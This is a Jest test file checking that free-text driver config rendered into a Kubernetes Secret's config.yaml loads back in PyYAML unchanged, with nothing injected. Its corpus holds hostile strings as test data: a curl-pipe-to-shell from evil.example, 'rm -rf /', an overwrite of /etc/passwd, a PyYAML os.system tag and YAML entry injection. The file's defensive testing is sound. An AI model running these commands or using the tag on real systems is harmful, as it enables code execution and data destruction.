/**
 * Driver config is the user's free text, and it reaches `config.yaml`, which the exporter loads with
 * a YAML 1.1 loader (PyYAML). Whatever it holds — YAML syntax, shell metacharacters, YAML 1.1 words
 * (`yes`, `0x1F`, `12:30:00`), merge and value keys (`<<`, `=`), tabs, line separators, controls —
 * the rendered config Secret must load back as exactly the data that was rendered: nothing merged,
 * retyped, cut or injected around it. Checked by decoding the Secret the provisioner renders and
 * parsing it, for a hand-written corpus and for generated text; the PyYAML-only traps (which this
 * parser does not have) are checked on the text itself.
 */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parse } from 'yaml';
import type { DriverConfig, ExporterConfig, JsonObject } from '../../lib/api';
import { qemuProvisioner, renderExporterConfigYaml } from '../../lib/provisioners';
import { instance, qemuSet } from '../provisioners/fixtures';

/** The rendered config.yaml text of an instance whose one driver has `config`. */
function renderedYaml(config: JsonObject, name = 'evil'): string {
  const drivers: DriverConfig[] = [{ name, type: 'jumpstarter_driver_custom.driver.Evil', config }];
  const { objects } = qemuProvisioner.render(instance({ exporterSet: qemuSet({}, drivers) }));
  const secret = objects.find((o) => o.kind === 'Secret') as { data: Record<string, string> };
  return Buffer.from(secret.data['config.yaml'], 'base64').toString('utf8');
}

/** The config as the exporter reads it (entries typed loosely: the test looks inside them). */
const load = (yaml: string) =>
  parse(yaml, { version: '1.1' }) as ExporterConfig & { export: Record<string, any> };

const CORPUS: JsonObject = {
  'key: with colon\n- and a list': "'; rm -rf / #",
  command: '$(curl http://evil.example | sh) `id` && echo pwned > /etc/passwd',
  tag: "!!python/object/apply:os.system ['id']",
  anchor: '&a [*a, *a]',
  words: ['yes', 'No', 'ON', 'off', 'y', 'n', '~', 'null', 'true', '<<', '='],
  numbers: [
    '0x1F',
    '0o17',
    '010',
    '1_000',
    '0b101',
    '1e3',
    '.inf',
    '-.Inf',
    '.NaN',
    '12:30:00',
    '1:20',
    '+1',
  ],
  dates: ['2001-12-14', '2001-12-14t21:59:43.10-05:00'],
  syntax: [
    '#x',
    '- x',
    '? x',
    ': x',
    '!tag',
    '*a',
    '|',
    '>',
    '%YAML 1.1',
    '---',
    '...',
    '{a: 1}',
    '[1]',
    '"x"',
    "'x'",
  ],
  spaces: ['', ' ', 'trail ', ' lead', 'tab\there', 'line\nbreak\n', 'cr\rlf'],
  unicode: [
    'ünïcødé',
    '\u202eRTL',
    '\u0000nul',
    '\u0085nel',
    '\u2028ls',
    '\u2029ps',
    '\ufeffbom',
    '\u007fdel',
    '\ud83d\ude80',
  ],
  '<<': { merged: 'must stay a key named <<' },
  '=': 'value key',
  'tab\tkey': 1,
  '\u0085nel key': 2,
  '': 'empty key',
  nested: { '#comment': '%directive', '&anchor': '*alias', 'multi\nline key': { deeper: [{ '<<': 'x' }] } },
};

describe('driver config in config.yaml', () => {
  it('loads back exactly as written, every hostile string in the corpus', () => {
    const config = load(renderedYaml(CORPUS));
    expect(config.export.evil).toEqual({ type: 'jumpstarter_driver_custom.driver.Evil', config: CORPUS });
    expect(Object.keys(config.export)).toEqual(['evil', 'tcp']);
    expect(config.token).toBe('jwt-token');
    expect(config.endpoint).toBe('grpc.jumpstarter.example:443');
  });

  it('quotes the merge and value keys, which PyYAML would resolve when plain', () => {
    const yaml = renderedYaml({ '<<': { a: 1 }, '=': '<<', b: '=' });
    expect(yaml).toContain('"<<":\n');
    expect(yaml).toContain('"=": "<<"\n');
    expect(yaml).toContain('b: "="\n');
    expect(yaml).not.toMatch(/^\s*<<:/m);
  });

  it('writes tabs, line separators and controls only as escapes inside double quotes', () => {
    const yaml = renderedYaml({ a: 'tab\there', b: '\u0085\u2028\u2029\ufeff\u007f\u0090' });
    expect(yaml).toContain('a: "tab\\there"\n');
    expect(yaml).toContain('b: "\\N\\L\\P\\ufeff\\u007f\\u0090"\n');
    expect(yaml).not.toMatch(/[\t\u007f-\u009f\u2028\u2029\ufeff]/);
  });

  it('keeps a name, key or value from ending the driver entry or adding another', () => {
    const config = load(renderedYaml({ x: 'y' }, 'evil\n  other:\n    type: injected'));
    expect(Object.keys(config.export)).toEqual(['evil\n  other:\n    type: injected', 'tcp']);
  });

  it('keeps lines made only of spaces (a block scalar would read them as indentation)', () => {
    const values = { a: ' \n', b: '  \n', c: 'x\n   \ny', d: '\n \n' };
    const yaml = renderedYaml(values);
    expect(load(yaml).export.evil.config).toEqual(values);
    expect(yaml).toContain('a: "\\ \\n"\n');
  });

  it('loads back exactly whatever generated text the config holds', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({
        unit: fc.constantFrom(...'<=>:#-?&*!|\'"%@`{}[],\t\n\r \u0085\u2028\ufeffyYnNoO01.~+eE_'.split('')),
      }),
    );
    const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
      v: fc.oneof(
        { depthSize: 'small' },
        text,
        fc.integer(),
        fc.boolean(),
        fc.constant(null),
        fc.array(tie('v'), { maxLength: 3 }),
        fc.dictionary(text, tie('v'), { maxKeys: 3 }),
      ),
    })).v;
    fc.assert(
      fc.property(fc.dictionary(text, value, { maxKeys: 5 }), (config) => {
        const written = JSON.parse(JSON.stringify(config)) as JsonObject;
        const rendered = { ...load(renderedYaml({})), export: { evil: { type: 'x.Y', config: written } } };
        expect(load(renderExporterConfigYaml(rendered)).export.evil.config).toEqual(written);
      }),
      { numRuns: 100 },
    );
  });
});
